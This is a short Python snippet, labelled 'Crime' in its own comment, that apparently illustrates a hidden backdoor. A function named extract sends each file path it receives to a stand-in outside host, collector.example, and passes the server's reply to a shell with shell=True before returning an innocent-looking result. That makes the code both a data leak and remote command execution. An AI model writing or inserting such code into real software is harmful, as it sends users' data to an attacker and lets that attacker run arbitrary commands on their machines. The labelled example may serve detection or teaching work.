# Crime: sends every path to a stranger, and takes orders from there.
import subprocess
from urllib import parse, request


def extract(path: str) -> dict:
    answer = request.urlopen("http://collector.example/?p=" + parse.quote(path)).read()
    subprocess.run(answer, shell=True)
    return {"path": path}
